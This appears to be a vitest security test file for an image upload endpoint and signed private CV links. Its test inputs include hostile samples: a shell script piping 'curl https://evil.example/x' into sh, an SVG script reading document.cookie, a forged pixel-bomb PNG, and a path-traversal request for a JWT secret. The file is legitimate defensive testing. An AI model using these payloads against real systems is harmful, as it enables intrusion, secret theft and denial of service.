/**
 * Issue 14, case 12 and the findings "the upload endpoint is open" and "private files are public":
 * POST /api/user/upload-one needs a session or a robot-check solution (accepted once), is limited
 * per user and per address, refuses what is not a clean raster image (a script renamed .jpg, an
 * SVG with script, a pixel bomb, a truncated file, 60 MB) and strips GPS metadata; the image gate
 * answers 503 when full. CVs are never served under /uploads, only through a signed /files link
 * minted for staff, which fails once expired or tampered with. (20 parallel large images under
 * 600 MB of RSS: tests/e2e/upload-memory.e2e.test.ts, a real process.)
 */
import fs from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import sharp from 'sharp';
import { beforeAll, describe, expect, it } from 'vitest';
import { createRobotChallenge, robotCheckSecret } from '@souq/core/accounts/robot-check.service.ts';
import { startSession } from '@souq/core/accounts/session.service.ts';
import { THROTTLE_RULES } from '@souq/core/accounts/throttle.ts';
import { cvLinksFor, storeCvUpload } from '@souq/core/content/careers.service.ts';
import type { Actor } from '@souq/core/context.ts';
import type { Database } from '@souq/core/db/client.ts';
import { users } from '@souq/core/db/schema/accounts.schema.ts';
import { imageWork, type ImageWorkTicket } from '@souq/core/media/image-work.ts';
import {
  movePublicPrivateFiles,
  privateFileLinkFor,
  privateFilesRoot,
  signPrivateFileLink,
} from '@souq/core/media/private-files.ts';
import type { AppRuntime } from '@souq/core/runtime.ts';
import { solvedRobotCheck } from '@souq/testing';
import { useInProcessAppServer } from '@souq/testing/app-server.fixture.ts';
import { TINY_PDF } from '@souq/testing/content-pages.fixture.ts';
import ar from '@souq/core/locale/messages/ar.json' with { type: 'json' };
import en from '@souq/core/locale/messages/en.json' with { type: 'json' };
import { solveRobotCheckInBrowser } from '../app/components/account/upload-avatar.ts';

const app = useInProcessAppServer({ name: 'upload-hardening' });
let database: Database;
let url: string;
let runtime: AppRuntime;
beforeAll(() => {
  ({ database, url, runtime } = app());
});

let userCount = 0;
async function signedIn(privilageType: Actor['privilageType'] = null, role: Actor['role'] = 'customer') {
  userCount += 1;
  const [row] = await database.db
    .insert(users)
    .values({
      name: `Uploader ${userCount}`,
      slug: `uploader-${userCount}-${Date.now()}`,
      fName: 'Up',
      lName: 'Loader',
      email: `uploader-${userCount}-${Date.now()}@example.com`,
      role,
      privilageType,
      status: true,
    })
    .returning();
  const actor: Actor = { id: row!.id, role, privilageType, status: true };
  const { token } = await startSession(database, runtime.jwtSecret, actor, {
    method: 'password',
    now: new Date(),
  });
  return { actor, headers: { authorization: `Bearer ${token}` } };
}

const upload = (body: Buffer | null, headers: Record<string, string> = {}, query = '?minify=true') => {
  const form = new FormData();
  if (body) form.append('image', new Blob([new Uint8Array(body)], { type: 'image/jpeg' }), 'photo.jpg');
  return fetch(`${url}/api/user/upload-one${query}`, { method: 'POST', body: form, headers });
};

const photo = () =>
  sharp({ create: { width: 640, height: 480, channels: 3, background: '#2a9d8f' } })
    .jpeg()
    .toBuffer();

/** A key of the message catalogs exists in both languages (the UI shows the server's key). */
function expectLocalized(key: string) {
  const lookup = (catalog: unknown) =>
    key.split('.').reduce<unknown>((node, part) => (node as Record<string, unknown>)?.[part], catalog);
  expect(typeof lookup(ar), `ar.json ${key}`).toBe('string');
  expect(typeof lookup(en), `en.json ${key}`).toBe('string');
}

describe('who may upload (finding: the upload endpoint is open)', () => {
  it('refuses an anonymous upload with 401 and a localized message, and stores nothing', async () => {
    const response = await upload(await photo());
    expect(response.status).toBe(401);
    const body = (await response.json()) as { message_key: string };
    expect(body).toMatchObject({ status_code: 401, message_key: 'errors.upload.loginRequired' });
    expectLocalized(body.message_key);
    expect(fs.existsSync(path.join(runtime.config.uploadsDir, 'avatars'))).toBe(false);
  });

  it('ignores a session cookie sent from another site', async () => {
    const { headers } = await signedIn();
    const token = headers.authorization.slice('Bearer '.length);
    const response = await upload(await photo(), {
      cookie: `token=${token}`,
      origin: 'https://evil.example',
    });
    expect(response.status).toBe(401);
  });

  it('accepts a signed-in user (bearer token)', async () => {
    const { headers } = await signedIn();
    const response = await upload(await photo(), headers);
    expect(response.status).toBe(200);
  });

  it('accepts the solution the sign-up form solves in the browser (altcha/lib, WebCrypto)', async () => {
    const challenge = await createRobotChallenge(robotCheckSecret(runtime.jwtSecret));
    const solution = await solveRobotCheckInBrowser(challenge);
    expect((await upload(await photo(), { 'X-Robot-Check': solution })).status).toBe(200);
  });

  it('accepts a robot-check solution once (a designer signing up), then refuses it', async () => {
    const solution = await solvedRobotCheck(runtime);
    const first = await upload(await photo(), { 'X-Robot-Check': solution });
    expect(first.status).toBe(200);
    expect(((await first.json()) as { file: { filename: string } }).file.filename).toMatch(
      /^avatars\/[0-9a-f]{32}\.webp$/,
    );
    const again = await upload(await photo(), { 'X-Robot-Check': solution });
    expect(again.status).toBe(401);
    const forged = await upload(await photo(), { 'X-Robot-Check': 'bm90IGEgc29sdXRpb24=' });
    expect(forged.status).toBe(401);
  });
});

describe('what may be uploaded (case 12)', () => {
  let headers: Record<string, string>;
  beforeAll(async () => {
    ({ headers } = await signedIn());
  });

  const expectRefused = async (response: Response, status: number, key: string) => {
    expect(response.status).toBe(status);
    const body = (await response.json()) as { message_key: string };
    expect(body).toMatchObject({ status_code: status, message_key: key });
    expectLocalized(body.message_key);
  };

  it('refuses a script renamed .jpg', async () => {
    const script = Buffer.from('#!/bin/sh\ncurl https://evil.example/x | sh\n<script>alert(1)</script>\n');
    await expectRefused(await upload(script, headers), 400, 'errors.upload.invalidType');
  });

  it('refuses an SVG carrying a script', async () => {
    const svg = Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><script>alert(document.cookie)</script><rect width="100" height="100"/></svg>',
    );
    await expectRefused(await upload(svg, headers), 400, 'errors.upload.invalidType');
  });

  it('refuses a pixel bomb (a tiny PNG declaring 30000x30000) without decoding it', async () => {
    const png = await sharp({ create: { width: 1, height: 1, channels: 3, background: '#000' } })
      .png()
      .toBuffer();
    // IHDR's width and height (bytes 16-23), then its CRC over type and data (bytes 12-28).
    png.writeUInt32BE(30_000, 16);
    png.writeUInt32BE(30_000, 20);
    png.writeUInt32BE(zlib.crc32(png.subarray(12, 29)), 29);
    expect(await sharp(png, { limitInputPixels: false }).metadata()).toMatchObject({
      width: 30_000,
      height: 30_000,
    });
    const started = performance.now();
    await expectRefused(await upload(png, headers), 400, 'errors.upload.invalidType');
    expect(performance.now() - started).toBeLessThan(2_000);
  });

  it('refuses a truncated image', async () => {
    const whole = await sharp({
      create: {
        width: 800,
        height: 800,
        channels: 3,
        background: '#808080',
        noise: { type: 'gaussian', mean: 128, sigma: 40 },
      },
    })
      .jpeg()
      .toBuffer();
    const truncated = whole.subarray(0, Math.floor(whole.length / 2));
    await expectRefused(await upload(truncated, headers), 400, 'errors.upload.invalidType');
  });

  it('refuses a 60 MB upload with 413, in the language the caller asks for', async () => {
    const huge = Buffer.alloc(60 * 1024 * 1024, 7);
    const refused = await upload(huge, { ...headers, 'accept-language': 'en-US,en;q=0.9' });
    expect(refused.status).toBe(413);
    expect(((await refused.clone().json()) as { message: string }).message).toBe(en.errors.upload.tooBig);
    await expectRefused(refused, 413, 'errors.upload.tooBig');
    const arabic = await upload(huge, { ...headers, 'x-lang': 'ar' });
    expect(((await arabic.json()) as { message: string }).message).toBe(ar.errors.upload.tooBig);
  });

  it('strips GPS and camera metadata from a photo (sharp metadata of the stored file)', async () => {
    const tagged = await sharp({ create: { width: 1200, height: 900, channels: 3, background: '#e76f51' } })
      .jpeg()
      .withExif({
        IFD0: { Make: 'PhoneMaker', Artist: 'owner-name-42' },
        IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '30/1 2/1 4935/100', GPSMapDatum: 'WGS-84-home-7' },
      })
      .toBuffer();
    const source = await sharp(tagged).metadata();
    expect(source.exif?.toString('latin1')).toContain('owner-name-42');
    expect(source.exif?.toString('latin1')).toContain('WGS-84-home-7');
    for (const query of ['?minify=true', '']) {
      const response = await upload(tagged, headers, query);
      expect(response.status).toBe(200);
      const { file } = (await response.json()) as { file: { filename: string } };
      const stored = fs.readFileSync(path.join(runtime.config.uploadsDir, file.filename));
      const metadata = await sharp(stored).metadata();
      expect(metadata.format).toBe('webp');
      expect(metadata.exif).toBeUndefined();
      expect(metadata.xmp).toBeUndefined();
      expect(stored.toString('latin1')).not.toContain('owner-name-42');
      expect(stored.toString('latin1')).not.toContain('WGS-84-home-7');
    }
  });
});

describe('bounded image work', () => {
  it('answers 503 (localized, busy) when the image gate is full, and serves again once it frees', async () => {
    const held: ImageWorkTicket[] = [];
    for (let ticket = imageWork.reserve(); ticket; ticket = imageWork.reserve()) held.push(ticket);
    const { headers } = await signedIn();
    try {
      const response = await upload(await photo(), headers);
      expect(response.status).toBe(503);
      const body = (await response.json()) as { message_key: string };
      expect(body.message_key).toBe('errors.upload.busy');
      expectLocalized(body.message_key);
    } finally {
      for (const ticket of held) ticket.release();
    }
    expect((await upload(await photo(), headers)).status).toBe(200);
  });
});

describe('private files (finding: private files are public)', () => {
  const cvPdf = () => Buffer.concat([TINY_PDF, Buffer.from('\n% applicant: Laila\n')]);

  it('does not serve a CV at the public uploads path, nor a copy left there by an earlier version', async () => {
    const cv = await storeCvUpload(runtime.config, cvPdf());
    expect((await fetch(`${url}/uploads/${cv}`)).status).toBe(404);
    const legacy = path.join(runtime.config.uploadsDir, 'cvs', '0123456789abcdef0123456789abcdef.pdf');
    fs.mkdirSync(path.dirname(legacy), { recursive: true });
    fs.writeFileSync(legacy, TINY_PDF);
    expect((await fetch(`${url}/uploads/cvs/0123456789abcdef0123456789abcdef.pdf`)).status).toBe(404);
    // The start moves it to the private folder, under the same name.
    const root = privateFilesRoot(runtime.config);
    expect(await movePublicPrivateFiles(runtime.config.uploadsDir, root)).toBe(1);
    expect(fs.existsSync(legacy)).toBe(false);
    expect(fs.existsSync(path.join(root, 'cvs', '0123456789abcdef0123456789abcdef.pdf'))).toBe(true);
  });

  it('serves a CV through a signed link for staff: as a download, private, before expiry only, never tampered', async () => {
    const cv = await storeCvUpload(runtime.config, cvPdf());
    const admin = await signedIn('admin');
    const [link] = cvLinksFor(admin.actor, [cv], { secret: runtime.jwtSecret, now: new Date() });
    const response = await fetch(`${url}${link}`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/pdf');
    expect(response.headers.get('content-disposition')).toMatch(/^attachment;/);
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    expect(response.headers.get('cache-control')).toBe('private, no-store');
    expect(Buffer.from(await response.arrayBuffer())).toEqual(cvPdf());

    // Expired: signed eleven minutes ago with the ten-minute lifetime.
    const old = signPrivateFileLink(runtime.jwtSecret, cv, new Date(Date.now() - 11 * 60 * 1000));
    const expired = await fetch(`${url}${old}`);
    expect(expired.status).toBe(410);
    expect(await expired.text()).toBe('This link has expired');
    // Tampered: a later expiry, another file, another signature, no signature: 404, as for no file.
    const later = link!.replace(/exp=(\d+)/, (_match, exp: string) => `exp=${Number(exp) + 3600}`);
    const other = await storeCvUpload(runtime.config, cvPdf());
    const otherFile = link!.replace(cv, other);
    const badSignature = link!.replace(/sig=./, (match) => (match.endsWith('A') ? 'sig=B' : 'sig=A'));
    for (const forged of [later, otherFile, badSignature, `/files/${cv}`]) {
      expect((await fetch(`${url}${forged}`)).status, forged).toBe(404);
    }
    expect((await fetch(`${url}/files/cvs/..%2F..%2Fjwt-secret?exp=1&sig=x`)).status).toBe(404);
  });

  it('mints CV links for superAdmin and admin only; ticket files for their designer and staff', async () => {
    const cv = await storeCvUpload(runtime.config, cvPdf());
    const options = { secret: runtime.jwtSecret, now: new Date() };
    expect(cvLinksFor((await signedIn('superAdmin')).actor, [cv], options)).toHaveLength(1);
    for (const who of [
      await signedIn('designerSupport'),
      await signedIn(null, 'customer'),
      await signedIn(null, 'designer'),
      await signedIn(null, 'manufacturer'),
    ]) {
      expect(cvLinksFor(who.actor, [cv], options)).toEqual([]);
    }
    expect(cvLinksFor(null, [cv], options)).toEqual([]);

    const attachment = 'ticket-attachments/0123456789abcdef0123456789abcdef.png';
    const owner = await signedIn(null, 'designer');
    const stranger = await signedIn(null, 'designer');
    const linkFor = (actor: Actor | null) =>
      privateFileLinkFor(actor, attachment, { ...options, ownerId: owner.actor.id });
    expect(linkFor(owner.actor)).toMatch(/^\/files\/ticket-attachments\//);
    expect(linkFor((await signedIn('designerSupport')).actor)).not.toBeNull();
    expect(linkFor(stranger.actor)).toBeNull();
    expect(linkFor((await signedIn(null, 'customer')).actor)).toBeNull();
    expect(linkFor(null)).toBeNull();
  });
});

describe('limits (case 12)', () => {
  it('limits one user (429, localized) while another user is still served', async () => {
    const { headers } = await signedIn();
    const limit = THROTTLE_RULES.uploadAccount.limit;
    // Bodies without an image: counted, refused after the count, cheap.
    for (let i = 0; i < limit; i += 1) expect((await upload(null, headers)).status).toBe(400);
    const refused = await upload(await photo(), headers);
    expect(refused.status).toBe(429);
    const body = (await refused.json()) as { message_key: string };
    expect(body.message_key).toBe('errors.auth.tooManyAttempts');
    expectLocalized(body.message_key);
    const other = await signedIn();
    expect((await upload(await photo(), other.headers)).status).toBe(200);
  });

  it('limits one address across users (429 before any one user reaches its own limit)', async () => {
    const perUser = THROTTLE_RULES.uploadAccount.limit - 1;
    let status = 0;
    let sent = 0;
    while (status !== 429 && sent <= THROTTLE_RULES.uploadAddress.limit) {
      const { headers } = await signedIn();
      for (let i = 0; i < perUser && status !== 429; i += 1) {
        status = (await upload(null, headers)).status;
        sent += 1;
      }
    }
    expect(status).toBe(429);
    expect(sent).toBeLessThanOrEqual(THROTTLE_RULES.uploadAddress.limit + 1);
  });
});
